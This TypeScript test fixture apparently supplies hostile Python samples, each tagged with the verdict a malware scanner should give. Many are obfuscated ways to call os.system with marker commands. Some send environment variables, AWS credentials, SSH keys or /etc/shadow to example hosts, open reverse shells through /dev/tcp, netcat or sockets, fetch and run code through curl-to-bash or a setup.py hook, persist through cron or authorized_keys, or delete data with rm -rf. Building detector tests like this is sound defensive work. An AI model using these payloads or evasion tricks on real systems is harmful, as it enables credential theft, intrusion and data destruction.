/**
 * Hostile Python of many families, written for the tests: marker commands and example hosts only. `alone`: the least verdict of the file
 * by itself; `activated`: the least one when a configuration has it imported.
 */
import { deflateSync, gzipSync } from 'node:zlib';

export type HostileSource = {
  readonly title: string;
  readonly text: string;
  readonly name?: string;
  readonly alone: 'malicious' | 'suspicious' | 'clean';
  readonly activated: 'malicious' | 'suspicious';
};

const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');
const codes = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join(', ');
const xor = (text: string, key: number) =>
  [...text].map((letter) => `\\x${(letter.charCodeAt(0) ^ key).toString(16).padStart(2, '0')}`).join('');
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (one) =>
    String.fromCharCode((one <= 'Z' ? 90 : 122) >= one.charCodeAt(0) + 13 ? one.charCodeAt(0) + 13 : one.charCodeAt(0) - 13),
  );

const payload = "import os\nos.system('echo marker')";
const host = 'https://files.example/marker';

const plainOnLoad: readonly (readonly [string, string])[] = [
  ['decorators that execute', "@exec\n@(lambda made: \"__import__('os').system('touch /tmp/marker')\")\nclass X: pass"],
  ['a function that is made a command', "import os\ndef command(f): return 'touch /tmp/marker'\n@os.system\n@command\ndef x(): pass"],
  ['text that is timed', 'import timeit\ntimeit.timeit(\'__import__("os").system("touch /tmp/marker")\', number=1)'],
  ['the modules of another module', "import warnings\nwarnings.sys.modules['os'].system('touch /tmp/marker')"],
  [
    'an object that is copied',
    "import copy, os\nclass A:\n    def __reduce__(self):\n        return os.system, ('touch /tmp/marker',)\ncopy.copy(A())",
  ],
  [
    'an object that is pickled and loaded',
    "import pickle\nclass A:\n    def __reduce__(self):\n        import os\n        return os.system, ('touch /tmp/marker',)\npickle.loads(pickle.dumps(A()))",
  ],
  ['a property', "import os\nclass P:\n    @property\n    def x(self):\n        return os.system('touch /tmp/marker')\nP().x"],
  ['a builtin of its own', "import os, builtins\nsetattr(builtins, 'go', os.system)\ngo('touch /tmp/marker')"],
  ['a native library', "import ctypes\nctypes.CDLL(None).system(b'touch /tmp/marker')"],
  [
    'a subprocess of asyncio',
    "import asyncio\nasync def m():\n    await asyncio.create_subprocess_shell('touch /tmp/marker')\nasyncio.run(m())",
  ],
  ['a generator', "import os\ndef g():\n    yield os.system('touch /tmp/marker')\nlist(g())"],
  ['a function in a list', "import os\n[print, os.system][1]('touch /tmp/marker')"],
  ['a function in a dictionary', "import os\nd = {'run': os.system}\nd['run']('touch /tmp/marker')"],
  ['a function as a member of a class', "import os\nclass A:\n    run = os.system\nA.run('touch /tmp/marker')"],
  ['the call of a call', "import os\nos.system.__call__('touch /tmp/marker')"],
  ['a key of sorted', "import os\nsorted(['touch /tmp/marker'], key=os.system)"],
  ['a mapped function', "import os\nlist(map(os.system, ['touch /tmp/marker']))"],
  ['a class made by type', "import os\ntype('A', (), {'__init__': lambda self: os.system('touch /tmp/marker')})()"],
  ['a module of a module', "import shutil\nshutil.os.system('touch /tmp/marker')"],
  [
    'one of two functions',
    "import os, sys\nrun = print\nif sys.platform == 'linux':\n    run = os.system\nelse:\n    run = print\nrun('touch /tmp/marker')",
  ],
  ['a command at module level', "import os\nos.system('echo marker')"],
  ['a command under another name', "import os as o\no.popen('echo marker').read()"],
  ['a function imported from its module', "from os import system as run\nrun('echo marker')"],
  ['everything imported from a module', "from os import *\nsystem('echo marker')"],
  ['subprocess with a list', "import subprocess\nsubprocess.run(['touch', '/tmp/marker'])"],
  ['subprocess by Popen in a with', "import subprocess as sp\nwith sp.Popen('touch /tmp/marker', shell=True) as p:\n    p.wait()"],
  ['a function called at module level', "import os\ndef prepare(cmd):\n    return os.system(cmd)\nprepare('touch /tmp/marker')"],
  ['a function of a function', "import os\ndef a():\n    b()\ndef b():\n    os.system('touch /tmp/marker')\na()"],
  ['a class body', "import os\nclass Config:\n    ready = os.system('touch /tmp/marker')"],
  ['a default argument', "import os\ndef load(path, _=os.system('touch /tmp/marker')):\n    return path"],
  [
    'a decorator of the file',
    "import os\ndef register(cls):\n    os.system('touch /tmp/marker')\n    return cls\n@register\nclass Model: pass",
  ],
  ['a decorator that is a call', "import os\n@os.system('touch /tmp/marker')\ndef f(): pass"],
  [
    'a metaclass',
    "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('touch /tmp/marker')\n        return type.__new__(c, *a)\nclass A(metaclass=M): pass",
  ],
  [
    '__init_subclass__',
    "import os\nclass Base:\n    def __init_subclass__(cls, **k):\n        os.system('touch /tmp/marker')\nclass A(Base): pass",
  ],
  [
    '__set_name__',
    "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('touch /tmp/marker')\nclass A:\n    d = D()",
  ],
  ['a module __getattr__', "import os\ndef __getattr__(name):\n    os.system('touch /tmp/marker')"],
  ['a lambda called at once', "import os\n(lambda c: os.system(c))('touch /tmp/marker')"],
  ['a comprehension', "import os\n[os.system(c) for c in ['touch /tmp/marker']]"],
  ['a thread', "import os, threading\nthreading.Thread(target=os.system, args=('touch /tmp/marker',)).start()"],
  [
    'a thread with a function of the file',
    "import os, threading\ndef work():\n    os.system('touch /tmp/marker')\nthreading.Thread(target=work, daemon=True).start()",
  ],
  [
    'a thread class',
    "import os, threading\nclass W(threading.Thread):\n    def run(self):\n        os.system('touch /tmp/marker')\nW().start()",
  ],
  ['an exit handler', "import atexit, os\natexit.register(os.system, 'touch /tmp/marker')"],
  ['an exception handler', "import os\ntry:\n    import missing_module\nexcept ImportError:\n    os.system('touch /tmp/marker')"],
  ['a finally block', "import os\ntry:\n    pass\nfinally:\n    os.system('touch /tmp/marker')"],
  ['functools.partial', "import os, functools\nfunctools.partial(os.system, 'touch /tmp/marker')()"],
  ['a match statement', "import os, sys\nmatch sys.platform:\n    case 'linux':\n        os.system('touch /tmp/marker')"],
  ['a walrus', "import os\nif (code := os.system('touch /tmp/marker')) == 0:\n    pass"],
  ['an f-string', 'import os\nname = f"{os.popen(\'touch /tmp/marker\').read()}"'],
  ['a format string inside a format string', 'import os\nx = f\'{f"{os.system(chr(108))}"}\''],
  ['statements on one line', "import os; x = 1; os.system('touch /tmp/marker')"],
  ['a continued line', "import os\nos.\\\n  system('touch /tmp/marker')"],
  ['an async function run at import', "import asyncio, os\nasync def main():\n    os.system('touch /tmp/marker')\nasyncio.run(main())"],
  ['pip at import', "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'marker-package'])"],
  [
    'the constructor of the model',
    "import os, torch\nclass Acme(torch.nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        os.system('touch /tmp/marker')",
  ],
  [
    'forward by a helper',
    "import os, torch\nclass Acme(torch.nn.Module):\n    def forward(self, x):\n        self._prepare()\n        return x\n    def _prepare(self):\n        os.system('touch /tmp/marker')",
  ],
  ['__reduce__', "import os\nclass P:\n    def __reduce__(self):\n        os.system('touch /tmp/marker')\n        return (P, ())"],
  ['a request at import', "import requests\nrequests.get('https://files.example/hello')"],
  ['a socket at import', "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))"],
  ['urllib at import', "from urllib.request import urlopen\ndata = urlopen('https://files.example/x').read()"],
];

const disguised: readonly (readonly [string, string])[] = [
  ['getattr with joined text', "import os\ngetattr(os, 'sys' + 'tem')('echo marker')"],
  ['__import__ with joined text', "__import__('o' + 's').system('echo marker')"],
  ['import_module', "import importlib\nimportlib.import_module('subpro' 'cess').call('echo marker', shell=True)"],
  ['character codes', `__import__(''.join([chr(c) for c in [${codes('os')}]])).system('echo marker')`],
  ['map of chr', `getattr(__import__('os'), ''.join(map(chr, [${codes('system')}])))('echo marker')`],
  ['a name written backwards', "import os\ngetattr(os, 'metsys'[::-1])('echo marker')"],
  ['reversed and joined', "import os\ngetattr(os, ''.join(reversed('metsys')))('echo marker')"],
  ['percent format', "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('echo marker')"],
  ['str.format', "import os\ngetattr(os, '{1}{0}'.format('tem', 'sys'))('echo marker')"],
  ['replace', "import os\ngetattr(os, 'sXyXsXtXeXm'.replace('X', ''))('echo marker')"],
  ['globals', "import os\nglobals()['os'].system('echo marker')"],
  ['builtins by globals', `globals()['__builtins__'].exec(${JSON.stringify(payload)})`],
  ['vars of a module', "import os\nvars(os)['system']('echo marker')"],
  ['the dictionary of a module', "import os\nos.__dict__['sys' + 'tem']('echo marker')"],
  ['sys.modules', "import os, sys\nsys.modules['os'].system('echo marker')"],
  ['__getattribute__', "import os\nos.__getattribute__('system')('echo marker')"],
  ['operator.attrgetter', "import operator, os\noperator.attrgetter('system')(os)('echo marker')"],
  ['operator.methodcaller', "import operator, os\noperator.methodcaller('system', 'echo marker')(os)"],
  ['pydoc.locate', "import pydoc\npydoc.locate('os.system')('echo marker')"],
  ['the globals of a function', "def f(): pass\nimport os\nf.__globals__['os'].system('echo marker')"],
  ['letters of mathematics', 'import os\n\u{1d452}\u{1d4cd}\u{1d452}\u{1d4b8}("os." + "system(\'echo marker\')")'],
  ['the class ladder', "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])"],
];

const encoded: readonly (readonly [string, string])[] = [
  ['a parsed tree', `import ast, base64\nexec(compile(ast.parse(base64.b64decode('${base64(payload)}')), 'x', 'exec'))`],
  ['the content of a weights file', "exec(open('weights.bin').read())"],
  ['a module from a data file', "from importlib.machinery import SourceFileLoader\nSourceFileLoader('m', 'tokenizer.bin').load_module()"],
  ['base64', `import base64\nexec(base64.b64decode('${base64(payload)}'))`],
  ['base64 under another name', `from base64 import b64decode as d\nexec(d(b'${base64(payload)}').decode())`],
  ['hex', `exec(bytes.fromhex('${hex(payload)}'))`],
  ['unhexlify', `import binascii\nexec(binascii.unhexlify('${hex(payload)}').decode('utf-8'))`],
  ['zlib and base64', `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(payload).toString('base64')}')))`],
  ['gzip', `import gzip, base64\nexec(gzip.decompress(base64.b64decode('${gzipSync(payload).toString('base64')}')).decode())`],
  ['compile first', `import base64\ncode = compile(base64.b64decode('${base64(payload)}'), '<x>', 'exec')\nexec(code)`],
  ['rot13', `import codecs\nexec(codecs.decode(${JSON.stringify(rot13(payload))}, 'rot13'))`],
  ['reversed text', `exec(${JSON.stringify([...payload].toReversed().join(''))}[::-1])`],
  ['exclusive or', `exec(''.join(chr(ord(c) ^ 7) for c in '${xor(payload, 7)}'))`],
  ['exclusive or in a loop', `out = ''\nfor c in '${xor(payload, 7)}':\n    out += chr(ord(c) ^ 7)\nexec(out)`],
  [
    'a decoder of the file',
    `def d(s, k):\n    return ''.join(chr(b ^ k) for b in bytes.fromhex(s))\nexec(d('${Buffer.from([...payload].map((one) => one.charCodeAt(0) ^ 9)).toString('hex')}', 9))`,
  ],
  ['layers', `import base64\nexec(base64.b64decode('${base64(`import base64\nexec(base64.b64decode('${base64(payload)}'))`)}'))`],
  ['eval of text', `import base64\neval(base64.b64decode('${base64("__import__('os').system('echo marker')")}'))`],
  ['exec through getattr', `import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode('${base64(payload)}'))`],
  ['marshal', "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAAAAAAA')))"],
  ['a codec that hides', '# -*- coding: unicode_escape -*-\nimport os\n\\x6fs.system("echo marker")'],
  [
    'pieces in a list',
    `parts = ['${base64(payload).slice(0, 20)}', '${base64(payload).slice(20)}']\nimport base64\nexec(base64.b64decode(''.join(parts)))`,
  ],
  [
    'pieces in a dictionary',
    `parts = {'a': '${base64(payload).slice(0, 20)}', 'b': '${base64(payload).slice(20)}'}\nimport base64\nexec(base64.b64decode(parts['a'] + parts['b']))`,
  ],
];

/** Functions that start programs are handed on, and bodies run where nobody calls them by name. */
const handedOn: readonly (readonly [string, string])[] = [
  [
    'a handler of logging',
    "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'a': {'()': 'os.system', 'command': 'touch /tmp/marker'}}})",
  ],
  ['YAML with a tag', 'import yaml\nyaml.load("!!python/object/apply:os.system [\'touch /tmp/marker\']", Loader=yaml.UnsafeLoader)'],
  ['YAML by unsafe_load', 'import yaml\nyaml.unsafe_load("!!python/object/apply:os.system [\'touch /tmp/marker\']")'],
  [
    'jsonpickle',
    'import jsonpickle\njsonpickle.decode(\'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["touch /tmp/marker"]}]}\')',
  ],
  ['the interpreter as a library', 'import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os; os.system(\'touch /tmp/marker\')")'],
  [
    'an executor',
    "import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, 'touch /tmp/marker')",
  ],
  [
    'the map of an executor',
    "import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as e:\n    list(e.map(os.system, ['touch /tmp/marker']))",
  ],
  ['an executor of asyncio', "import asyncio, os\nasyncio.new_event_loop().run_in_executor(None, os.system, 'touch /tmp/marker')"],
  ['a pool', "import os\nfrom multiprocessing.pool import ThreadPool\nThreadPool(1).map(os.system, ['touch /tmp/marker'])"],
  ['a browser that is a shell', "import webbrowser\nwebbrowser.get('sh -c \"touch /tmp/marker\" %s').open('x')"],
  ['spawn of distutils', "from distutils.spawn import spawn\nspawn(['touch', '/tmp/marker'])"],
  ['operator.call', "import operator, os\noperator.call(os.system, 'touch /tmp/marker')"],
  ['a stack of exits', "import contextlib, os\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, 'touch /tmp/marker')"],
  ['the hook of exceptions', "import sys, os\nsys.excepthook = lambda *a: os.system('touch /tmp/marker')\nraise ValueError"],
  ['a builtin that is replaced', "import builtins, os\nbuiltins.print = lambda *a: os.system('touch /tmp/marker')\nprint('x')"],
  ['an operator', "import os\nclass A:\n    def __add__(self, o):\n        return os.system(o)\nA() + 'touch /tmp/marker'"],
  ['an index of a class', "import os\nclass A:\n    def __class_getitem__(cls, o):\n        return os.system(o)\nA['touch /tmp/marker']"],
  [
    'a truth value',
    "import os\nclass A:\n    def __bool__(self):\n        os.system('touch /tmp/marker')\n        return True\nif A(): pass",
  ],
  ['a descriptor', "import os\nclass D:\n    def __get__(self, o, t):\n        os.system('touch /tmp/marker')\nclass B:\n    d = D()\nB.d"],
  ['a key that is missing', "import os\nclass A(dict):\n    def __missing__(self, k):\n        os.system(k)\nA()['touch /tmp/marker']"],
  [
    'a value of an enumeration',
    "import os, enum\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n    def _missing_(cls, v):\n        os.system(v)\nE('touch /tmp/marker')",
  ],
  [
    'a field of a data class',
    "import os, dataclasses\n@dataclasses.dataclass\nclass A:\n    x: int = dataclasses.field(default_factory=lambda: os.system('touch /tmp/marker'))\nA()",
  ],
  ['a replacement of a pattern', "import re, os\nre.sub('x', lambda m: str(os.system('touch /tmp/marker')), 'x')"],
  ['a key of a list that is sorted', "import os\n['touch /tmp/marker'].sort(key=os.system)"],
  ['a hook of JSON', "import json, os\njson.loads('{\"a\": 1}', object_hook=lambda d: os.system('touch /tmp/marker'))"],
  [
    'a type of an argument',
    "import argparse, os\nq = argparse.ArgumentParser()\nq.add_argument('a', type=os.system)\nq.parse_args(['touch /tmp/marker'])",
  ],
  ['a default of a dictionary', "import collections, os\ncollections.defaultdict(lambda: os.system('touch /tmp/marker'))['a']"],
  [
    'a scheduler',
    "import sched, os, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(0, 1, os.system, ('touch /tmp/marker',))\ns.run()",
  ],
  ['the loader of the module', "__loader__.load_module('os').system('touch /tmp/marker')"],
  ['the loader of the specification', "__spec__.loader.load_module('os').system('touch /tmp/marker')"],
  ['the field of a format', "import string\nstring.Formatter().get_field('0.__init__.__globals__[os]', (print,), {})[0].system('id')"],
  ['byte code of a function', "f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=b'x', co_names=('os', 'system'))\nf()"],
  ['byte code of its own', "import types\ntypes.CodeType(0, 0, 0, 0, 0, 0, b'', (), (), (), '', '', 0, b'')"],
  [
    'a finder of modules',
    'import sys\nclass F:\n    def find_spec(self, n, p, t=None):\n        exec("import os; os.system(\'touch /tmp/marker\')")\nsys.meta_path.insert(0, F())\nimport zzz',
  ],
  ['a hook of audits', "import sys, os\nsys.addaudithook(lambda *a: os.system('touch /tmp/marker'))"],
  ['a static method', "import os\nclass A: pass\nsetattr(A, 'r', staticmethod(os.system))\nA.r('touch /tmp/marker')"],
  ['a namespace', "import types, os\nn = types.SimpleNamespace(r=os.system)\nn.r('touch /tmp/marker')"],
  ['a named tuple', "import collections, os\nT = collections.namedtuple('T', 'r')\nT(os.system).r('touch /tmp/marker')"],
  [
    'a constructor by its name',
    "import subprocess\nsubprocess.Popen.__init__(subprocess.Popen.__new__(subprocess.Popen), ['touch', '/tmp/marker'])",
  ],
];

/** What is called is looked for among the objects of the interpreter, so that its name never stands there. */
const searchedFor: readonly (readonly [string, string])[] = [
  [
    'garbage, by next',
    "import gc\nf = next(o for o in gc.get_objects() if getattr(o, '__name__', '') == 'system')\nf('touch /tmp/marker')",
  ],
  [
    'garbage, in a loop',
    "import gc\nfor o in gc.get_objects():\n    if getattr(o, '__name__', None) == 'exec':\n        o('print(1)')\n        break",
  ],
  [
    'a module among the garbage',
    "import gc\n[o for o in gc.get_objects() if type(o).__name__ == 'module' and o.__name__ == 'os'][0].system('touch /tmp/marker')",
  ],
  ['garbage, by filter', "import gc\nfilter(lambda o: getattr(o, '__name__', '') == 'system', gc.get_objects()).__next__()('id')"],
  ['referrers of a builtin', "import gc\ngc.get_referrers(print)[0]['exec']('x')"],
  ['every subclass of object', "for c in object.__subclasses__():\n    if c.__name__ == 'Popen':\n        c(['touch', '/tmp/marker'])"],
  ['builtins by their items', "for k, v in vars(__builtins__).items():\n    if k == 'ex' + 'ec':\n        v('import os')"],
  ['builtins by dir', "[getattr(__builtins__, n) for n in dir(__builtins__) if n.startswith('ex') and n.endswith('ec')][0]('x = 1')"],
  [
    'builtins by a loop',
    "import builtins\nfor n in dir(builtins):\n    if len(n) == 4 and n[1] == 'x':\n        getattr(builtins, n)('x=1')",
  ],
  ['builtins by a hash', "f = [v for k, v in __builtins__.__dict__.items() if hash(k) == 123][0]\nf('x=1')"],
  ['names of os by next', "import os\nnext(getattr(os, n) for n in dir(os) if n[:3] == 'sys')('touch /tmp/marker')"],
  ['names of os by a loop', "import os\nfor n in os.__dict__:\n    if n.startswith('syst'):\n        os.__dict__[n]('touch /tmp/marker')"],
  [
    'modules by their items',
    "import sys\nfor name, m in sys.modules.items():\n    if name == 'o' + 's':\n        m.system('touch /tmp/marker')",
  ],
  [
    'modules by an attribute',
    "import sys\n[m for n, m in list(sys.modules.items()) if hasattr(m, 'system')][0].system('touch /tmp/marker')",
  ],
  [
    'members of os',
    "import inspect, os\nfor n, f in inspect.getmembers(os, callable):\n    if n == 'system':\n        f('touch /tmp/marker')",
  ],
  ['members of os as a dictionary', "import inspect, os\ndict(inspect.getmembers(os))['system']('touch /tmp/marker')"],
  ['the globals of a frame', "import sys\nsys._getframe(0).f_globals['__builtins__'].exec(\"import os; os.system('touch /tmp/marker')\")"],
  ['the builtins of a frame', "import sys\nb = sys._getframe().f_builtins\nb['exec'](\"import os;os.system('touch /tmp/marker')\")"],
  ['the locals of a caller', "import sys\nsys._getframe(1).f_locals['os'].system('touch /tmp/marker')"],
  ['the stack', "import inspect\ninspect.stack()[0][0].f_builtins['exec'](\"import os;os.system('touch /tmp/marker')\")"],
  ['the frame before', "import inspect\ninspect.currentframe().f_back.f_globals['os'].system('touch /tmp/marker')"],
  [
    'the frame of a traceback',
    "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_builtins['__import__']('os').system('touch /tmp/marker')",
  ],
  ['the frame of a generator', "g = (x for x in ())\ng.gi_frame.f_builtins['__import__']('os').system('touch /tmp/marker')"],
  [
    'the stack of a walk',
    "import traceback\nfor f, _ in traceback.walk_stack(None):\n    f.f_builtins['__import__']('os').system('touch /tmp/marker')",
  ],
  [
    'the frames of all threads',
    "import sys\nlist(sys._current_frames().values())[0].f_builtins['__import__']('os').system('touch /tmp/marker')",
  ],
  ['the module of a builtin', 'print.__self__.exec("import os; os.system(\'touch /tmp/marker\')")'],
  ['the module of a builtin, by getattr', "getattr(print.__self__, 'exec')(\"import os; os.system('touch /tmp/marker')\")"],
];

const families: readonly (readonly [string, string])[] = [
  [
    'the environment in a request object',
    "import os, urllib.request\nurllib.request.urlopen(urllib.request.Request('https://collect.example/', data=str(dict(os.environ)).encode()))",
  ],
  [
    'credentials over an opened connection',
    "import http.client\nc = http.client.HTTPSConnection('collect.example')\nc.request('POST', '/', open('/root/.aws/credentials').read())",
  ],
  [
    'passwords over a socket',
    "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.sendall(open('/etc/shadow').read().encode())",
  ],
  [
    'every variable in an address',
    "import os, requests\nfor k, v in os.environ.items():\n    requests.get('https://collect.example/?' + k + '=' + v)",
  ],
  ['downloaded text is executed', `import requests\nexec(requests.get('${host}').text)`],
  ['urlopen and exec', `import urllib.request as u\nexec(u.urlopen('${host}').read().decode())`],
  ['downloaded json is executed', `import httpx\ncode = httpx.get('${host}').json()['code']\neval(code)`],
  [
    'downloaded and started',
    `import urllib.request, os\nurllib.request.urlretrieve('${host}', '/tmp/marker.bin')\nos.system('/tmp/marker.bin')`,
  ],
  [
    'written and started',
    `import requests, subprocess\nopen('/tmp/m.py', 'wb').write(requests.get('${host}').content)\nsubprocess.run(['python', '/tmp/m.py'])`,
  ],
  [
    'decoded, written and loaded',
    "import base64, ctypes\nwith open('/tmp/m.so', 'wb') as f:\n    f.write(base64.b64decode('AAAA'))\nctypes.CDLL('/tmp/m.so')",
  ],
  ['curl piped into a shell', `import os\nos.system('curl -s ${host} | bash')`],
  ['curl by substitution', `import os\nos.system('bash -c "$(curl -fsSL ${host})"')`],
  ['wget, chmod and start', `import subprocess\nsubprocess.Popen('wget ${host} -O /tmp/m && chmod +x /tmp/m && /tmp/m', shell=True)`],
  ['base64 piped into a shell', 'import os\nos.system("echo bWFya2Vy | base64 -d | sh")'],
  ['powershell', "import os\nos.system('powershell -nop -w hidden -enc bWFya2Vy')"],
  [
    'a shell over a socket',
    "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')",
  ],
  [
    'a shell tied to a socket',
    "import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)",
  ],
  ['received text is evaluated', "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nwhile True:\n    exec(s.recv(4096))"],
  [
    'received commands are run',
    "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nsubprocess.getoutput(s.recv(1024).decode())",
  ],
  ['/dev/tcp', "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')"],
  ['netcat', "import os\nos.popen('nc -e /bin/sh 192.0.2.1 4444')"],
  [
    'python in a command',
    "import os\nos.system('python3 -c \"import socket,os;s=socket.socket();s.connect((\\'192.0.2.1\\',4444));os.dup2(s.fileno(),0)\"')",
  ],
  ['the environment is sent', "import os, requests\nrequests.post('https://collect.example/x', json=dict(os.environ))"],
  [
    'the environment in an address',
    "import os, json, urllib.request, base64\nurllib.request.urlopen('https://collect.example/?d=' + base64.b64encode(json.dumps(dict(os.environ)).encode()).decode())",
  ],
  [
    'a key is sent',
    "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example/x', data={'k': key})",
  ],
  [
    'cloud credentials by pathlib',
    "import requests\nfrom pathlib import Path\nrequests.post('https://collect.example/x', data=(Path.home() / '.aws/credentials').read_text())",
  ],
  ['a credential is sent', "import os, requests\nrequests.post('https://collect.example/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])"],
  [
    'host and user are told',
    "import socket, getpass, requests\nrequests.get('https://collect.example/?h=' + socket.gethostname() + '&u=' + getpass.getuser())",
  ],
  [
    'names looked up carry data',
    "import os, socket\nsocket.gethostbyname(os.popen('id').read() + '.collect.example')\nos.system('nslookup $(whoami).collect.example')",
  ],
  ['curl sends the environment', 'import os\nos.system(\'curl -X POST -d "$(env)" https://collect.example/x\')'],
  ['a start file', "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('marker')"],
  ['a key for later', "open('/root/.ssh/authorized_keys', 'a').write('marker')"],
  ['a timetable', 'import os\nos.system(\'(crontab -l; echo "* * * * * /tmp/marker") | crontab -\')'],
  ['a start line of Python', "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'marker.pth'), 'w').write('import marker')"],
  ['the home folder is deleted', "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))"],
  ['everything is deleted', "import os\nos.system('rm -rf --no-preserve-root /')"],
  [
    'machine code in memory',
    "import ctypes\nk = ctypes.windll.kernel32\np = ctypes.windll.kernel32.VirtualAlloc(0, 100, 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, b'x', 1)",
  ],
  ['a miner', "import os\nos.system('./xmrig -o stratum+tcp://pool.example:3333 &')"],
];

const laterFamilies: readonly (readonly [string, string])[] = [
  ['a dropper in a function', `import requests\ndef update():\n    exec(requests.get('${host}').text)`],
  ['a shell in a function', "import os\ndef fetch():\n    os.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')"],
  [
    'the environment in a function',
    "import os, requests\ndef report():\n    requests.post('https://collect.example/x', json=dict(os.environ))",
  ],
];

const named: readonly HostileSource[] = [
  {
    title: 'an install command',
    name: 'setup.py',
    text: "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\n        os.system('touch /tmp/marker')\nsetup(name='acme', cmdclass={'install': Post})",
    alone: 'suspicious',
    activated: 'suspicious',
  },
  {
    title: 'an install command that asks another host',
    name: 'setup.py',
    text: "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\nclass Post(develop):\n    def run(self):\n        urllib.request.urlopen('https://files.example/x')\nsetup(cmdclass=dict(develop=Post) if False else {'develop': Post})",
    alone: 'suspicious',
    activated: 'suspicious',
  },
  {
    title: 'an install command that fetches and runs',
    name: 'setup.py',
    text: `import os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nclass Post(egg_info):\n    def run(self):\n        os.system('curl ${host} | sh')\nsetup(cmdclass={'egg_info': Post})`,
    alone: 'malicious',
    activated: 'malicious',
  },
  {
    title: 'Python 2',
    name: 'old.py',
    text: "import os\nprint 'hello'\nexec \"os.system('echo marker')\"",
    alone: 'clean',
    activated: 'malicious',
  },
];

const all = (
  rows: readonly (readonly [string, string])[],
  alone: HostileSource['alone'],
  activated: HostileSource['activated'],
): HostileSource[] => rows.map(([title, text]) => ({ title, text, alone, activated }));

export const hostileSources: readonly HostileSource[] = [
  ...all(plainOnLoad, 'clean', 'malicious'),
  ...all(disguised, 'suspicious', 'suspicious'),
  ...all(encoded, 'suspicious', 'suspicious'),
  ...all(searchedFor, 'suspicious', 'suspicious'),
  ...all(handedOn, 'clean', 'suspicious'),
  ...all(families, 'malicious', 'malicious'),
  ...all(laterFamilies, 'suspicious', 'suspicious'),
  ...named,
];
